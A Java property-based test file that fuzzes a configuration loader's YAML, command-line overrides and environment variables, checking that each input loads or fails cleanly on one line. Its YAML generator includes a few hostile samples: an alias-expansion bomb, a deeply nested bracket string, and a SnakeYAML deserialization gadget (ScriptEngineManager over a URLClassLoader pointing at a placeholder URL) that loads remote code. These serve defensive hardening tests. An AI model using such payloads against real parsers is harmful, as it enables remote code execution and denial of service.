package dev.wirewatch.app.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.wirewatch.app.cli.Main;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.constraints.Size;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * Hostile input for the configuration loader: arbitrary YAML files (and arbitrary bytes), arbitrary
 * {@code --set key=value} pairs and arbitrary {@code WIREWATCH_*} variables. Every one ends in a configuration
 * or in one {@link ConfigException} on one line; through the command line, in exit 0 or exit 2 with one line on
 * stderr and no stack trace; never another exception or a hang.
 */
class ConfigLoaderProperties {

  private static final Duration BOUND = Duration.ofSeconds(10);
  private static Path dir;

  @BeforeContainer
  static void makeDirectory() throws IOException {
    dir = Files.createTempDirectory("config-properties");
  }

  @AfterContainer
  static void removeDirectory() throws IOException {
    try (var files = Files.list(dir)) {
      for (Path f : files.toList()) {
        Files.delete(f);
      }
    }
    Files.delete(dir);
  }

  @Property(tries = 400)
  void arbitraryYamlEndsInAConfigurationOrOneLine(@ForAll("yaml") String yaml) throws IOException {
    Path file = Files.write(dir.resolve("w.yaml"), yaml.getBytes(java.nio.charset.StandardCharsets.UTF_8));
    assertLoadsOrOneLine(() -> WirewatchConfig.load(file, Map.of(), Map.of(), null));
  }

  @Property(tries = 200)
  void arbitraryBytesAsAConfigFileEndInOneLine(@ForAll @Size(max = 2048) byte[] bytes) throws IOException {
    Path file = Files.write(dir.resolve("w.yaml"), bytes);
    assertLoadsOrOneLine(() -> WirewatchConfig.load(file, Map.of(), Map.of(), null));
  }

  @Property(tries = 400)
  void arbitraryKeyValuesEndInAConfigurationOrOneLine(@ForAll("assignments") Map<String, String> overrides) {
    assertLoadsOrOneLine(() -> WirewatchConfig.load(null, Map.of(), overrides, null));
  }

  @Property(tries = 400)
  void arbitraryEnvironmentVariablesEndInAConfigurationOrOneLine(@ForAll("environment") Map<String, String> environment) {
    assertLoadsOrOneLine(() -> WirewatchConfig.load(null, environment, Map.of(), null));
  }

  @Property(tries = 100)
  void theConfigCommandExitsZeroOrTwoWithOneLine(@ForAll("assignments") Map<String, String> overrides) {
    // Given the same values as flags of `wirewatch config`
    List<String> args = new java.util.ArrayList<>(List.of("config"));
    overrides.forEach((k, v) -> {
      args.add("--set");
      args.add(k + "=" + v);
    });
    StringWriter out = new StringWriter();
    StringWriter err = new StringWriter();

    // When it runs
    int code = assertTimeoutPreemptively(BOUND, () -> Main.execute(args.toArray(String[]::new),
        new PrintWriter(out, true), new PrintWriter(err, true), Map.of()));

    // Then it prints the configuration, or refuses it on one line
    assertTrue(code == Main.OK || code == Main.USAGE, "exit " + code + ": " + err);
    if (code == Main.USAGE) {
      assertEquals(1, err.toString().lines().count(), err.toString());
      assertTrue(err.toString().startsWith("wirewatch: "), err.toString());
    }
    assertFalse(err.toString().contains("\tat "), "no stack trace: " + err);
  }

  private static void assertLoadsOrOneLine(org.junit.jupiter.api.function.ThrowingSupplier<WirewatchConfig> load) {
    assertTimeoutPreemptively(BOUND, () -> {
      try {
        WirewatchConfig config = load.get();
        // A configuration that loads is one every stage can be built from
        dev.wirewatch.app.Stages.ingestSettings(config);
        dev.wirewatch.app.Stages.sinkSettings(config);
      } catch (ConfigException e) {
        assertEquals(1, e.getMessage().lines().count(), e.getMessage());
        assertFalse(e.getMessage().isBlank());
      }
    });
  }

  // ---- generators

  private static final List<String> KEYS = Settings.all().stream().map(Setting::key)
      .filter(k -> !k.endsWith("*")).collect(Collectors.toList());

  private static Arbitrary<String> values() {
    return Arbitraries.oneOf(
        Arbitraries.strings().all().ofMaxLength(30),
        Arbitraries.strings().withChars("0123456789smhd -+.").ofMaxLength(25),
        Arbitraries.integers().map(String::valueOf),
        Arbitraries.longs().map(String::valueOf),
        Arbitraries.of("", "0", "0s", "-5", "true", "no", "99999999999999999999d", "9999999999999999d", "1ms",
            "jdbc:sqlite:x.db", "jdbc:postgresql://h/d", "http://[::1", "https://exa mple.org/", "~", "null"));
  }

  private static Arbitrary<String> keys() {
    return Arbitraries.oneOf(Arbitraries.of(KEYS), Arbitraries.strings().all().ofMinLength(1).ofMaxLength(20),
        Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(8).map(s -> "kafka." + s));
  }

  @Provide
  Arbitrary<Map<String, String>> assignments() {
    // picocli splits --set at the first '='; such keys would not reach the loader as written
    return Arbitraries.maps(keys().filter(k -> !k.contains("=")), values()).ofMaxSize(5);
  }

  @Provide
  Arbitrary<Map<String, String>> environment() {
    Arbitrary<String> names = Arbitraries.oneOf(
        Arbitraries.of(KEYS).map(k -> new Setting<>(k, SettingType.bool(), "true", "").environmentVariable()),
        Arbitraries.strings().withChars("ABCDEFGHIJKLMNOPQRSTUVWXYZ_0123456789").ofMaxLength(20).map(s -> "WIREWATCH_" + s),
        Arbitraries.of("WIREWATCH_FEEDS", "WIREWATCH_", "WIREWATCH_KAFKA_", "PATH", "HOME"));
    Arbitrary<String> feedLists = Arbitraries.oneOf(values(), Combinators.combine(Arbitraries.strings().all().ofMaxLength(8), values())
        .as((a, b) -> a + "=" + b).list().ofMaxSize(3).map(l -> String.join(",", l)));
    return Arbitraries.maps(names, Arbitraries.oneOf(values(), feedLists)).ofMaxSize(5).map(HashMap::new);
  }

  @Provide
  Arbitrary<String> yaml() {
    return Arbitraries.frequencyOf(
        Tuple.of(1, Arbitraries.strings().all().ofMaxLength(200)),
        Tuple.of(4, node(3, 0)),
        Tuple.of(1, Arbitraries.of(
            "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: &d [*c, *c]\ne: &e [*d, *d]\nf: [*e, *e]\n",
            "feeds: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
            "%YAML 9.9\n---\nfoo: bar\n", "---\n...\n---\n", "? [a, b]\n: c\n", "feeds: {source: x}\n",
            "data.dir: !!binary AAAA\n", "kafka:\n  x: " + "[".repeat(5000) + "\n", "ingest:\n  interval: [1, 2]\n", "feeds:\n  - [1, 2]\n")));
  }

  /** A YAML block: mappings with known and unknown keys, sequences, scalars of every kind. */
  private static Arbitrary<String> node(int depth, int indent) {
    String pad = " ".repeat(indent);
    Arbitrary<String> scalar = values().map(ConfigLoaderProperties::yamlScalar);
    if (depth == 0) {
      return scalar;
    }
    Arbitrary<String> key = Arbitraries.oneOf(
        Arbitraries.of("feeds", "ingest", "kafka", "storage", "sink", "topics", "classify", "data.dir", "source", "url",
            "interval", "ignoreRobots", "read.timeout", "max.page.bytes", "bootstrap.servers"),
        Arbitraries.of(KEYS), Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(6));
    Arbitrary<String> entry = Combinators.combine(key, Arbitraries.lazy(() -> node(depth - 1, indent + 2)), Arbitraries.of(true, false))
        .as((k, v, inline) -> inline || !v.contains("\n") && !v.startsWith(" ")
            ? pad + yamlScalar(k) + ": " + v.strip()
            : pad + yamlScalar(k) + ":\n" + v);
    Arbitrary<String> mapping = entry.list().ofMinSize(1).ofMaxSize(4).map(l -> String.join("\n", l) + "\n");
    Arbitrary<String> sequence = Arbitraries.lazy(() -> node(depth - 1, indent + 2)).list().ofMinSize(1).ofMaxSize(3)
        .map(items -> items.stream().map(i -> pad + "- " + i.strip().replace("\n", "\n" + pad + "  ")).collect(Collectors.joining("\n")) + "\n");
    return Arbitraries.frequencyOf(Tuple.of(2, scalar), Tuple.of(4, mapping), Tuple.of(2, sequence));
  }

  private static String yamlScalar(String s) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20 || c == 0x7F || Character.isSurrogate(c) || c == '\uFEFF' || c >= '\uFFFE') {
        out.append(String.format("\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.append('"').toString();
  }
}
